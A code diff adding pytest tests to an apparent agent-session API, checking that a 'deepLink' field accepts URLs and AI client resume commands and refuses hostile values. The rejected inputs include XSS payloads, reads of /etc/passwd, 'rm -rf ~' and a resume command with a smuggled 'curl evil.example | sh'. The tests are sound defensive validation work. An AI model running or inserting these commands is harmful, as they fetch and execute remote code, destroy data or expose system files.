@@ -243,3 +243,41 @@ async def test_r13_a_placeholder_version_is_recorded_as_sent_and_reported_missin
     assert session["client"] == {"tool": tool, "version": version, "placeholderVersion": placeholder}
     assert session["provenanceMissing"] == (["client.version"] if placeholder else [])
     assert session["provenancePartial"] is placeholder
+
+
+@pytest.mark.parametrize(
+    "link",
+    [
+        "https://claude.ai/chat/8f1c2e4a",
+        "http://intranet.example/agents/runs/17",
+        "claude --resume 8f1c2e4a-session",
+        "claude -r 8f1c2e4a-session",
+        "codex resume 0199a213-81c0-7800-8aa1-bbab2a035a53",
+        "gemini --resume 3",
+    ],
+)
+async def test_issue_21_a_deep_link_is_a_url_or_a_clients_resume_command(
+    api: Api, world: World, link: str
+) -> None:
+    session = await start(api, world.agent.token, {"projectId": world.project_id, "deepLink": link})
+    assert session["deepLink"] == link
+
+
+@pytest.mark.parametrize(
+    "link",
+    [
+        "javascript:alert(document.cookie)",
+        "data:text/html,<script>alert(1)</script>",
+        "file:///etc/passwd",
+        "https://",
+        "claude --resume x; curl evil.example | sh",
+        "rm -rf ~",
+        "vscode://open?file=/etc/passwd",
+    ],
+)
+async def test_issue_21_a_deep_link_that_is_a_script_or_a_command_is_refused(
+    api: Api, world: World, link: str
+) -> None:
+    """``deepLink`` stored ``javascript:`` and ``data:`` URLs, shown to people as a way back."""
+    value = {"projectId": world.project_id, "deepLink": link}
+    await refused_as_bad_input(api, world.agent.token, START, "input.deepLink", i=value)
